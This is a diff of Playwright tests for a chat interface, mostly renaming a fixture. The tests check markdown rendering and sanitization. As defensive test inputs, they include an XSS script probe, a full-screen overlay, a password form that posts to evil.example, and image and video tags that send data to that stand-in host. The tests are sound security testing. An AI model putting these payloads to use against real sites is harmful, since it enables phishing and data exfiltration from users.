@@ -26,47 +26,50 @@ def say(page: Page, text: str) -> None:
         "see `vector<int>` and <order>one</order>",
     ],
 )
-def test_text_with_angle_brackets_is_whole(echoed: Page, text: str) -> None:
-    say(echoed, text)
-    expect(echoed.locator(USER)).to_have_text(text)
-    expect(echoed.locator(BOT).last).to_contain_text(text.replace("`", ""))
+def test_text_with_angle_brackets_is_whole(echo_chat: Page, text: str) -> None:
+    say(echo_chat, text)
+    expect(echo_chat.locator(USER)).to_have_text(text)
+    expect(echo_chat.locator(BOT).last).to_contain_text(text.replace("`", ""))
 
 
-def test_a_message_is_shown_as_typed(echoed: Page) -> None:
+def test_a_message_is_shown_as_typed(echo_chat: Page) -> None:
     text = "2*3*4 __init__.py\n\n  # no heading\n- [x] $a$ <script>alert(1)</script>"
-    say(echoed, text)
-    assert echoed.locator(USER).inner_text() == text
+    say(echo_chat, text)
+    assert echo_chat.locator(USER).inner_text() == text
 
 
-def test_an_answer_covers_and_fetches_nothing(echoed: Page) -> None:
+def test_an_answer_covers_and_fetches_nothing(echo_chat: Page) -> None:
     say(
-        echoed,
+        echo_chat,
         '<div style="position:fixed;inset:0;background:red;z-index:9999">x</div>\n\n'
         '<form action="https://evil.example"><input type=password><button>Go</button></form>\n\n'
         "![x](https://evil.example/p.png?leak=1) <img src=https://evil.example/i.png> "
         "<video src=https://evil.example/v.mp4></video>",
     )
-    expect(echoed.locator(BOT).last).to_contain_text("<form action=")
+    expect(echo_chat.locator(BOT).last).to_contain_text("<form action=")
     assert (
-        echoed.locator("#chat .message :is(form, input, img, video, [style*=fixed])").count() == 0
+        echo_chat.locator("#chat .message :is(form, input, img, video, [style*=fixed])").count()
+        == 0
     )
-    echoed.click("#new-chat")  # nothing covers it; `opened` fails for any request to another host
-    expect(echoed.locator(BOT)).to_have_count(0)
+    echo_chat.click(
+        "#new-chat"
+    )  # nothing covers it; `opened` fails for any request to another host
+    expect(echo_chat.locator(BOT)).to_have_count(0)
 
 
-def test_markdown_and_formulas_are_drawn(echoed: Page) -> None:
-    say(echoed, "**bold** $a<b$ costs $5 and $6\n\n```python\nx: list[int] = a < b\n```\n")
-    answer = echoed.locator(BOT).last
+def test_markdown_and_formulas_are_drawn(echo_chat: Page) -> None:
+    say(echo_chat, "**bold** $a<b$ costs $5 and $6\n\n```python\nx: list[int] = a < b\n```\n")
+    answer = echo_chat.locator(BOT).last
     expect(answer.locator("strong")).to_have_text("bold")
     expect(answer.locator(".katex")).to_have_count(1)
     expect(answer).to_contain_text("costs $5 and $6")
     expect(answer.locator("pre")).to_contain_text("x: list[int] = a < b")
 
 
-def test_tasks_footnotes_and_columns_are_drawn(echoed: Page) -> None:
+def test_tasks_footnotes_and_columns_are_drawn(echo_chat: Page) -> None:
     text = "- [x] done\n- [ ] open\n\nSaid[^1].\n\n[^1]: By him.\n\n| a | b |\n|--:|:-:|\n| 1 | 2 |"
-    say(echoed, text)
-    answer = echoed.locator(BOT).last
+    say(echo_chat, text)
+    answer = echo_chat.locator(BOT).last
     expect(answer.locator("li")).to_have_text(["☑ done", "☐ open"])
     expect(answer).to_contain_text("Said¹.")
     expect(answer).to_contain_text("¹ By him.")
@@ -74,16 +77,16 @@ def test_tasks_footnotes_and_columns_are_drawn(echoed: Page) -> None:
     assert answer.locator("td").evaluate_all(aligned) == ["right", "center"]
 
 
-def test_copying_and_editing_give_the_text(echoed: Page) -> None:
+def test_copying_and_editing_give_the_text(echo_chat: Page) -> None:
     text = "Is Map<K, V> *fast*?"
-    echoed.context.grant_permissions(["clipboard-read", "clipboard-write"])
-    say(echoed, text)
-    echoed.locator("#chat [aria-label='Copy message']").first.click()
-    echoed.wait_for_function(
+    echo_chat.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    say(echo_chat, text)
+    echo_chat.locator("#chat [aria-label='Copy message']").first.click()
+    echo_chat.wait_for_function(
         "async text => (await navigator.clipboard.readText()) === text", arg=text
     )
-    echoed.get_by_label("Edit").first.click()
-    expect(echoed.locator("#chat textarea").first).to_have_value(text)
+    echo_chat.get_by_label("Edit").first.click()
+    expect(echo_chat.locator("#chat textarea").first).to_have_value(text)
 
 
 def test_another_host_is_refused_by_policy(browser: Browser, echo_url: str) -> None:
@@ -99,9 +102,9 @@ def test_another_host_is_refused_by_policy(browser: Browser, echo_url: str) -> N
     assert refused == "https://evil.example/x.png"
 
 
-def test_each_paragraph_has_its_direction(echoed: Page) -> None:
-    say(echoed, "مرحبا بالعالم.\n\nHello.")
-    starts = echoed.evaluate(
+def test_each_paragraph_has_its_direction(echo_chat: Page) -> None:
+    say(echo_chat, "مرحبا بالعالم.\n\nHello.")
+    starts = echo_chat.evaluate(
         """() => [...document.querySelectorAll('#chat .bot .prose p')].map(p => {
             const range = document.createRange();
             range.selectNodeContents(p);
